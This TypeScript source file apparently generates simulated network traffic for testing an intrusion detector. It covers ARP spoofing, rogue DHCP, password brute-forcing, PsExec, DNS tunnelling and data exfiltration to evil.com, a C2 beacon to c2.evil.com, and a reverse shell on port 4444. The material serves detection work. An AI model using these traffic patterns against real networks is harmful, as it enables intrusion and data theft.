import { bytesOf, hex } from './frames.ts'
import { ipv4, type Line, Scene } from './scene.ts'
import { answer, create, LOGON_FAILURE, sessionSetup, smb1Session, treeConnect } from './smb-messages.ts'

const INSIDE = '10.0.0.5'
const RESOLVER = '10.0.0.2'
const OUTSIDE = '198.51.100.7'
const WRITES = 0x120196

const base64 = (text: string) => btoa(text)

/** Numbers that look random and are the same each time (Lehmer). */
function randomText(seed: number, length: number, letters: string): string {
  let state = (seed * 48_271 + 12_345) % 2_147_483_647
  let text = ''
  while (text.length < length) {
    state = (state * 48_271) % 2_147_483_647
    text += letters[state % letters.length]
  }
  return text
}
const BASE32 = 'abcdefghijklmnopqrstuvwxyz234567'
const HEX = '0123456789abcdef'

function tries(count: number, gap: number, port: number, linesOf: (i: number) => Line[]): Scene {
  const scene = new Scene()
  for (let i = 0; i < count; i++) scene.wait(gap).connection(OUTSIDE, 40_000 + i, '10.0.0.10', port, linesOf(i))
  return scene
}

function one(port: number, lines: Line[], server = OUTSIDE): Scene {
  const scene = new Scene()
  scene.connection(INSIDE, 40_000, server, port, lines)
  return scene
}

const ftpLogin = (user: string, secret: string, result: string): Line[] => [
  ['s', '220 ready\r\n'],
  ['c', `USER ${user}\r\n`],
  ['s', '331 go on\r\n'],
  ['c', `PASS ${secret}\r\n`],
  ['s', `${result}\r\n`],
]

function tunnel(count: number, nameOf: (i: number) => string, type: number): Scene {
  const scene = new Scene()
  for (let i = 0; i < count; i++) scene.wait(0.1).lookup(INSIDE, RESOLVER, nameOf(i), { type })
  return scene
}

function callHome(count: number, gapOf: (i: number) => number, port: number, lines: Line[]): Scene {
  const scene = new Scene()
  for (let i = 0; i < count; i++) {
    scene.connection(INSIDE, 40_000 + i, OUTSIDE, port, lines)
    scene.wait(gapOf(i))
  }
  return scene
}

const get = (host: string, path: string): Line => ['c', `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`]
const ok = (type: string, body: string | Uint8Array): Line => [
  's',
  bytesOf(`HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n`, body),
]
const PROGRAM = bytesOf('MZ', new Uint8Array(58), [0x40, 0, 0, 0], 'PE\0\0', new Uint8Array(200))

const sshSession = (i: number): Line[] => [
  ['s', 'SSH-2.0-OpenSSH_9.2\r\n'],
  ['c', `SSH-2.0-libssh_0.${i % 9}\r\n`],
  ['s', bytesOf(hex('0000001c0a14'), new Uint8Array(26))],
]

export const ATTACKS: Readonly<Record<string, () => Scene>> = {
  'arpspoof between a host and its router': () => {
    const scene = new Scene()
    scene.arp(1, 'victim', '10.0.0.5', '10.0.0.1')
    scene.arp(2, 'router', '10.0.0.1', '10.0.0.5', 'victim')
    for (let i = 0; i < 10; i++) {
      scene.wait(2)
      scene.arp(2, 'attacker', '10.0.0.1', '10.0.0.5', 'victim')
      scene.arp(2, 'attacker', '10.0.0.5', '10.0.0.1', 'router')
      if (i % 3 === 0) {
        scene.arp(1, 'router', '10.0.0.1', '10.0.0.9')
        scene.arp(1, 'victim', '10.0.0.5', '10.0.0.9')
      }
    }
    return scene
  },
  'arpspoof of one victim, seen from there': () => {
    const scene = new Scene()
    scene.arp(1, 'victim', '10.0.0.5', '10.0.0.1')
    scene.arp(2, 'router', '10.0.0.1', '10.0.0.5', 'victim')
    for (let i = 0; i < 20; i++) scene.wait(2).arp(2, 'attacker', '10.0.0.1', '10.0.0.5', 'victim')
    return scene
  },
  'two machines with one address': () => {
    const scene = new Scene()
    for (let i = 0; i < 3; i++) {
      scene.wait(5).arp(1, 'one', '10.0.0.5', '10.0.0.1')
      scene.wait(5).arp(1, 'other', '10.0.0.5', '10.0.0.1')
    }
    return scene
  },
  'rogue DHCP server': () => {
    const scene = new Scene()
    for (const id of [1, 2, 3]) {
      scene.wait(5).dhcp(id, null, '0.0.0.0', [[53, [1]]])
      for (const [server, router] of [
        ['10.0.0.1', '10.0.0.1'],
        ['10.0.0.66', '10.0.0.66'],
      ])
        scene.dhcp(id, server, `10.0.0.${100 + id}`, [
          [53, [2]],
          [54, ipv4(server)],
          [3, ipv4(router)],
          [6, ipv4(router)],
        ])
    }
    return scene
  },
  'rogue DHCP server that is faster, in transactions of its own': () => {
    const scene = new Scene()
    for (const [id, server] of [
      [1, '10.0.0.1'],
      [2, '10.0.0.66'],
      [3, '10.0.0.66'],
    ] as const) {
      scene.wait(5).dhcp(id, null, '0.0.0.0', [[53, [1]]])
      scene.dhcp(id, server, `10.0.0.${100 + id}`, [
        [53, [5]],
        [54, ipv4(server)],
        [3, ipv4(server)],
        [6, ipv4(server)],
      ])
    }
    return scene
  },
  'hydra at FTP': () => tries(30, 1, 21, (i) => ftpLogin('admin', `pass${i}`, '530 no')),
  'hydra at FTP, and in': () =>
    tries(30, 1, 21, (i) => ftpLogin('admin', `pass${i}`, i === 29 ? '230 welcome' : '530 no')),
  'hydra at SSH': () => tries(40, 1, 22, sshSession),
  'hydra at remote desktop': () =>
    tries(40, 1, 3389, () => [
      ['c', hex('0300001302e00000000000010008 0003000000')],
      ['s', hex('0300001302d00000000000020008 0002000000')],
    ]),
  'hydra at SMB': () => tries(30, 1, 445, (i) => sessionSetup(1, `user${i}`, LOGON_FAILURE)),
  'hydra at HTTP Basic': () =>
    tries(60, 0.5, 80, (i) => [
      ['c', `GET /admin HTTP/1.1\r\nHost: x\r\nAuthorization: Basic ${base64(`admin:pass${i}`)}\r\n\r\n`],
      ['s', 'HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n'],
    ]),
  'hydra at POP3': () =>
    tries(30, 1, 110, (i) => [
      ['s', '+OK\r\n'],
      ['c', 'USER admin\r\n'],
      ['s', '+OK\r\n'],
      ['c', `PASS pass${i}\r\n`],
      ['s', '-ERR no\r\n'],
    ]),
  PsExec: () =>
    one(
      445,
      [
        ...sessionSetup(1, 'admin', 0),
        treeConnect(2, '\\\\10.0.0.10\\ADMIN$'),
        answer('treeConnect', 2, 7),
        create(3, 7, WRITES, 'PSEXESVC.exe'),
        answer('create', 3, 7),
        treeConnect(4, '\\\\10.0.0.10\\IPC$'),
        answer('treeConnect', 4, 9),
        create(5, 9, WRITES, 'svcctl'),
        answer('create', 5, 9),
      ],
      '10.0.0.10',
    ),
  'SMB 1': () => one(445, smb1Session(), '10.0.0.10'),
  'program over HTTP': () => one(80, [get('x.example', '/update.exe'), ok('application/octet-stream', PROGRAM)]),
  'program that is said to be a picture': () => one(80, [get('x.example', '/cat.png'), ok('image/png', PROGRAM)]),
  iodine: () => tunnel(100, (i) => `${randomText(i, 60, BASE32)}.${randomText(i + 500, 50, BASE32)}.t.evil.com`, 10),
  'iodine over A': () =>
    tunnel(100, (i) => `${randomText(i, 60, BASE32)}.${randomText(i + 500, 50, BASE32)}.t.evil.com`, 1),
  dns2tcp: () => tunnel(60, (i) => `${randomText(i, 50, BASE32)}.=connect.dns2tcp.evil.com`, 25),
  dnscat2: () => tunnel(60, (i) => `${randomText(i, 58, HEX)}.evil.com`, [16, 5, 15][0]),
  'dnscat2 without a domain': () => tunnel(60, (i) => `dnscat.${randomText(i, 50, HEX)}1a`, 16),
  'file in DNS names': () =>
    tunnel(12, (i) => `${randomText(i, 63, BASE32)}.${randomText(i + 99, 63, BASE32)}.x.evil.com`, 1),
  'one name of Base64': () =>
    tunnel(1, () => 'H4sICN03K2QAA3Rlc3QudHh0AAvJyCxWAKJEheLU5KLUEoW0zJxUL=.4S2FgAAAA==.evil.com', 1),
  'DGA of a bot': () => {
    const scene = new Scene()
    for (let i = 0; i < 120; i++)
      scene.wait(1).lookup(INSIDE, RESOLVER, `${randomText(i, 14, 'bcdfghjklmnpqrstvwxz')}.com`, { rcode: 3 })
    return scene
  },
  'fast flux': () => {
    const scene = new Scene()
    for (let i = 0; i < 12; i++)
      scene.wait(30).lookup(INSIDE, RESOLVER, 'flux.evil.com', {
        addresses: [0, 1, 2].map((k) => `${20 + i * 3 + k}.${(i * 7 + k) % 200}.10.1`),
      })
    return scene
  },
  'log-in at Telnet': () =>
    one(23, [
      ['s', 'login: '],
      ['c', 'root\r\n'],
      ['s', 'root\r\nPassword: '],
      ['c', 'toor\r\n'],
      ['s', '\r\nWelcome\r\n# '],
    ]),
  'log-in at FTP': () => one(21, ftpLogin('ann', 'secret', '230 in')),
  'log-in at POP3': () =>
    one(110, [
      ['s', '+OK\r\n'],
      ['c', 'USER ann\r\n'],
      ['s', '+OK\r\n'],
      ['c', 'PASS secret\r\n'],
      ['s', '+OK in\r\n'],
    ]),
  'log-in at IMAP': () =>
    one(143, [
      ['s', '* OK ready\r\n'],
      ['c', 'a1 LOGIN ann secret\r\n'],
      ['s', 'a1 OK in\r\n'],
    ]),
  'log-in at SMTP': () =>
    one(25, [
      ['s', '220 ready\r\n'],
      ['c', 'EHLO x\r\n'],
      ['s', '250-x\r\n250 AUTH PLAIN\r\n'],
      ['c', `AUTH PLAIN ${base64('\0ann\0secret')}\r\n`],
      ['s', '235 in\r\n'],
    ]),
  'log-in at HTTP, Basic': () =>
    one(80, [
      ['c', `GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Basic ${base64('ann:secret')}\r\n\r\n`],
      ok('text/html', 'in'),
    ]),
  'log-in at HTTP, form': () =>
    one(80, [
      [
        'c',
        'POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 28\r\n\r\nusername=ann&password=secret',
      ],
      ok('text/html', 'in'),
    ]),
  'log-in at LDAP': () =>
    one(389, [
      ['c', hex('301602010160110201030404636e3d61 8006736563726574')],
      ['s', hex('300c02010161070a010004000400')],
    ]),
  'communities of SNMP': () => {
    const scene = new Scene()
    scene.udp(
      INSIDE,
      40_000,
      '10.0.0.9',
      161,
      hex('302602010104067365637265 74a019020101020100020100300e300c06082b060102010101000500'),
    )
    return scene
  },
  'HTTP beacon, every minute, 10 % jitter': () =>
    callHome(120, (i) => 60 + ((i * 37) % 13) - 6, 80, [
      ['c', 'GET /ga.js HTTP/1.1\r\nHost: c2.evil.com\r\n\r\n'],
      ok('text/plain', ''),
    ]),
  'TCP beacon, every 5 s for 5 minutes': () =>
    callHome(60, () => 5, 8443, [
      ['c', 'ping'],
      ['s', 'pong'],
    ]),
  'shell at 4444': () =>
    one(4444, [
      ['c', 'Microsoft Windows [Version 10]\r\n'],
      ['s', 'whoami\r\n'],
    ]),
  'large upload': () => one(443, [['c', new Uint8Array(12 * 1_048_576)]]),
  'connection of nine hours': () => {
    const scene = new Scene()
    for (const at of [0, 9 * 3600]) {
      scene.now = at
      scene.tcp(INSIDE, 40_000, OUTSIDE, 443, 0x18)
      scene.tcp(OUTSIDE, 443, INSIDE, 40_000, 0x10)
    }
    return scene
  },
}
